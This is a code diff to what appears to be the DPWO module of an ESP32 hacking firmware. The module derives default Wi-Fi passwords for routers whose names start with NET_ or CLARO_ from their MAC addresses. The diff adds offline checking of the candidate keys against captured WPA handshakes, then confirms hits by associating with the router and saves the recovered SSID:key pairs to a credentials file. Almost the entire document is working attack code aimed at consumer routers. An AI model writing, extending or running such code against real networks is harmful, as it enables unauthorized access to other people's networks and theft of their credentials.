@@ -11,10 +11,17 @@
 
 #include "core/sd_functions.h"
 #include "dpwo.h"
+#include "wpa_handshake.h"
+#include <atomic>
 #include <globals.h>
 
+#define DPWO_CONNECTED_BIT BIT0
+#define DPWO_DISCONNECTED_BIT BIT1
+
 int ap_scanned = 0;
 
+static EventGroupHandle_t dpwoEvents = NULL;
+
 void parse_BSSID(char *bssid_without_colon, const char *bssid) {
     int j = 0;
     for (int i = 0; i < strlen(bssid); ++i) {
@@ -23,69 +30,141 @@ void parse_BSSID(char *bssid_without_colon, const char *bssid) {
     bssid_without_colon[j] = '\0';
 }
 
-void net_ap(int i) {
+/*********************************************************************
+**  Function: dpwo_candidates
+**  Default keys derived from the BSSID/SSID, no radio needed
+**********************************************************************/
+std::vector<String> dpwo_candidates(const String &ssid, const String &bssidStr) {
+    std::vector<String> keys;
     char bssid_without_colon[18];
-    parse_BSSID(bssid_without_colon, WiFi.BSSIDstr(i).c_str());
-    Serial.println("MAC addr");
-    Serial.println(bssid_without_colon);
-
-    char *bssid_ready = bssid_without_colon + 4;
-    bssid_ready[strlen(bssid_ready) - 2] = '\0';
-    int ssid_length = WiFi.SSID(i).length();
-    if (ssid_length >= 2) {
-        String last_two = WiFi.SSID(i).substring(ssid_length - 2);
-        strcat(bssid_ready, last_two.c_str());
+    parse_BSSID(bssid_without_colon, bssidStr.c_str());
+    String middle = String(bssid_without_colon).substring(4, 10);
+
+    String key;
+    if (ssid.startsWith("NET_")) {
+        if (ssid.length() < 2) return keys;
+        key = middle + ssid.substring(ssid.length() - 2);
+    } else if (ssid.startsWith("CLARO_")) {
+        key = middle;
     } else {
-        Serial.println("ERROR");
+        return keys;
     }
-    WiFi.begin(WiFi.SSID(i).c_str(), bssid_ready);
-    // TODO: Dont depend on delays and compare the wifi status other way :P
-    delay(2000);
-    while (WiFi.status() != WL_CONNECTED) {
-        Serial.println("\nNOPE");
+    keys.push_back(key);
+    String lower = key;
+    lower.toLowerCase();
+    if (lower != key) keys.push_back(lower);
+    return keys;
+}
+
+static void dpwoWiFiEvent(arduino_event_id_t event, arduino_event_info_t info) {
+    if (dpwoEvents == NULL) return;
+    if (event == ARDUINO_EVENT_WIFI_STA_CONNECTED) {
+        xEventGroupSetBits(dpwoEvents, DPWO_CONNECTED_BIT);
+    } else if (event == ARDUINO_EVENT_WIFI_STA_DISCONNECTED) {
+        xEventGroupSetBits(dpwoEvents, DPWO_DISCONNECTED_BIT);
+    }
+}
+
+/*********************************************************************
+**  Function: dpwo_associate
+**  Returns as soon as the 4-way handshake succeeds or the AP rejects
+**  the key, instead of sleeping a fixed time
+**********************************************************************/
+static bool dpwo_associate(const DpwoTarget &target, const String &key) {
+    xEventGroupClearBits(dpwoEvents, DPWO_CONNECTED_BIT | DPWO_DISCONNECTED_BIT);
+    WiFi.begin(target.ssid.c_str(), key.c_str(), target.channel, target.bssid);
+    EventBits_t bits = xEventGroupWaitBits(
+        dpwoEvents,
+        DPWO_CONNECTED_BIT | DPWO_DISCONNECTED_BIT,
+        pdTRUE,
+        pdFALSE,
+        pdMS_TO_TICKS(DPWO_ASSOC_TIMEOUT_MS)
+    );
+    bool connected = bits & DPWO_CONNECTED_BIT;
+    if (!(bits & DPWO_DISCONNECTED_BIT)) {
+        // wait for our own disconnect so it is not taken for the next attempt's answer
         WiFi.disconnect();
-        return;
+        xEventGroupWaitBits(dpwoEvents, DPWO_DISCONNECTED_BIT, pdTRUE, pdFALSE, pdMS_TO_TICKS(500));
     }
-    Serial.println("\nWiFi Connected");
-    WiFi.disconnect();
+    return connected;
+}
 
-    FS *Fs;
-    File file;
-    if (setupSdCard()) Fs = &SD;
-    else {
-        if (checkLittleFsSize()) Fs = &LittleFS;
-        else goto PrintOnly;
+struct DpwoJob {
+    DpwoTarget *target;
+    size_t candidate;
+};
+
+struct DpwoWork {
+    std::vector<DpwoJob> jobs;
+    std::atomic<size_t> next{0};
+    SemaphoreHandle_t helperDone;
+};
+
+static void dpwo_verify_worker(DpwoWork &work) {
+    size_t i;
+    while ((i = work.next++) < work.jobs.size()) {
+        DpwoJob &job = work.jobs[i];
+        if (job.target->found >= 0) continue;
+        DpwoTarget &target = *job.target;
+        if (wpaCheckPassphrase(*target.handshake, target.ssid, target.candidates[job.candidate])) {
+            target.found = job.candidate;
+        }
     }
-    file = (*Fs).open(SD_CREDS_PATH, FILE_APPEND, true);
-    file.println(String(WiFi.SSID(i) + ":" + bssid_ready).c_str());
-    Serial.println("\nWrote creds to SD");
-    file.close();
+}
 
-PrintOnly:
-    tft.setTextSize(1);
-    tft.setTextColor(bruceConfig.secColor);
-    tft.println(String(WiFi.SSID(i) + ":" + bssid_ready).c_str());
+static void dpwo_verify_task(void *param) {
+    DpwoWork *work = (DpwoWork *)param;
+    dpwo_verify_worker(*work);
+    xSemaphoreGive(work->helperDone);
+    vTaskDelete(NULL);
 }
 
-void claro_ap(int i) {
-    char bssid_without_colon[18];
-    parse_BSSID(bssid_without_colon, WiFi.BSSIDstr(i).c_str());
-    Serial.println("MAC addr");
-    Serial.println(bssid_without_colon);
-
-    char *bssid_ready = bssid_without_colon + 4;
-    bssid_ready[strlen(bssid_ready) - 2] = '\0';
-    int ssid_length = WiFi.SSID(i).length();
-    WiFi.begin(WiFi.SSID(i).c_str(), bssid_ready);
-    delay(2000);
-    while (WiFi.status() != WL_CONNECTED) {
-        Serial.println("\nNOPE");
-        WiFi.disconnect();
-        return;
+/*********************************************************************
+**  Function: dpwo_verify_offline
+**  Checks every candidate against the captured handshakes, split
+**  between both cores since PBKDF2 dominates the cost
+**********************************************************************/
+static void dpwo_verify_offline(std::vector<DpwoTarget> &targets) {
+    DpwoWork work;
+    for (auto &target : targets) {
+        if (target.handshake == nullptr) continue;
+        for (size_t c = 0; c < target.candidates.size(); c++) work.jobs.push_back({&target, c});
+    }
+    if (work.jobs.empty()) return;
+
+    unsigned long start = millis();
+    work.helperDone = xSemaphoreCreateBinary();
+    BaseType_t otherCore = xPortGetCoreID() == 0 ? 1 : 0;
+    bool helper = false;
+    if (work.helperDone != NULL) {
+        helper = xTaskCreatePinnedToCore(
+                     dpwo_verify_task, "dpwoVerify", 4096, &work, 1, NULL, otherCore
+                 ) == pdPASS;
     }
-    Serial.println("\nWiFi Connected");
-    WiFi.disconnect();
+    dpwo_verify_worker(work);
+    if (helper) xSemaphoreTake(work.helperDone, portMAX_DELAY);
+    if (work.helperDone) vSemaphoreDelete(work.helperDone);
 
+    log_d("DPWO: %zu candidates checked offline in %lu ms", work.jobs.size(), millis() - start);
+}
+
+static String dpwo_handshake_path(const uint8_t *bssid) {
+    char path[50];
+    snprintf(
+        path,
+        sizeof(path),
+        "/BrucePCAP/handshakes/HS_%02X%02X%02X%02X%02X%02X.pcap",
+        bssid[0],
+        bssid[1],
+        bssid[2],
+        bssid[3],
+        bssid[4],
+        bssid[5]
+    );
+    return String(path);
+}
+
+static void dpwo_save(const DpwoTarget &target, const String &key) {
     FS *Fs;
     File file;
     if (setupSdCard()) Fs = &SD;
@@ -94,14 +173,14 @@ void claro_ap(int i) {
         else goto PrintOnly;
     }
     file = (*Fs).open(SD_CREDS_PATH, FILE_APPEND, true);
-    file.println(String(WiFi.SSID(i) + ":" + bssid_ready).c_str());
+    file.println(String(target.ssid + ":" + key).c_str());
     Serial.println("\nWrote creds to SD");
     file.close();
 
 PrintOnly:
     tft.setTextSize(1);
     tft.setTextColor(bruceConfig.secColor);
-    tft.println(String(WiFi.SSID(i) + ":" + bssid_ready).c_str());
+    tft.println(String(target.ssid + ":" + key).c_str());
 }
 
 void dpwo_setup() {
@@ -118,28 +197,75 @@ void dpwo_setup() {
 
     if (ap_scanned == 0) {
         tft.println("no networks found");
-    } else {
+        return;
+    }
+
+    // TODO: add different functions to match Copel and Vivo regex on SSID also
+    std::vector<DpwoTarget> targets;
+    for (int i = 0; i < ap_scanned; ++i) {
+        DpwoTarget target;
+        target.ssid = WiFi.SSID(i);
+        target.candidates = dpwo_candidates(target.ssid, WiFi.BSSIDstr(i));
+        if (target.candidates.empty()) {
+            Serial.println("not vuln");
+            Serial.println(target.ssid);
+            continue;
+        }
+        memcpy(target.bssid, WiFi.BSSID(i), 6);
+        target.channel = WiFi.channel(i);
+        targets.push_back(target);
+    }
+    WiFi.scanDelete();
 
-        // TODO: add different functions to match Copel and Vivo regex on SSID also
-        // TODO: dont repeat the wifi connection process inside each function, instead work on this loop
+    // Handshakes captured by the sniffer let us check keys without touching the AP
+    FS *fs = NULL;
+    if (setupSdCard()) fs = &SD;
+    else if (checkLittleFsSize()) fs = &LittleFS;
+    if (fs != NULL) {
+        for (auto &target : targets) {
+            WpaHandshake *hs = new WpaHandshake;
+            if (wpaLoadHandshake(*fs, dpwo_handshake_path(target.bssid), target.bssid, *hs)) {
+                target.handshake = hs;
+            } else {
+                delete hs;
+            }
+        }
+    }
+    dpwo_verify_offline(targets);
 
-        for (int i = 0; i < ap_scanned; ++i) {
-            if (WiFi.SSID(i).startsWith("NET_")) {
-                net_ap(i);
-                Serial.println("NET SSID");
-            } else if (WiFi.SSID(i).startsWith("CLARO_")) {
-                claro_ap(i);
-                Serial.println(WiFi.SSID(i));
-                Serial.println("CLARO SSID");
+    dpwoEvents = xEventGroupCreate();
+    wifi_event_id_t eventId = WiFi.onEvent(dpwoWiFiEvent);
+    bool autoReconnect = WiFi.getAutoReconnect();
+    WiFi.setAutoReconnect(false);
 
+    for (auto &target : targets) {
+        Serial.println(target.ssid);
+        if (target.handshake != nullptr) {
+            // candidates were already checked, only confirm a hit on the air
+            if (target.found >= 0 && dpwo_associate(target, target.candidates[target.found])) {
+                dpwo_save(target, target.candidates[target.found]);
             } else {
-                Serial.println("not vuln");
-                Serial.println(WiFi.SSID(i));
+                Serial.println("\nNOPE");
+            }
+            continue;
+        }
+        bool hit = false;
+        for (const String &key : target.candidates) {
+            if (dpwo_associate(target, key)) {
+                Serial.println("\nWiFi Connected");
+                dpwo_save(target, key);
+                hit = true;
+                break;
             }
         }
+        if (!hit) Serial.println("\nNOPE");
     }
-    Serial.println("scanning again");
-    ap_scanned = WiFi.scanNetworks();
+
+    WiFi.removeEvent(eventId);
+    WiFi.setAutoReconnect(autoReconnect);
+    vEventGroupDelete(dpwoEvents);
+    dpwoEvents = NULL;
+    for (auto &target : targets) delete target.handshake;
 
     // TODO: append vulnerable APs and dont repeat the output inside a loop
     tft.fillScreen(bruceConfig.bgColor);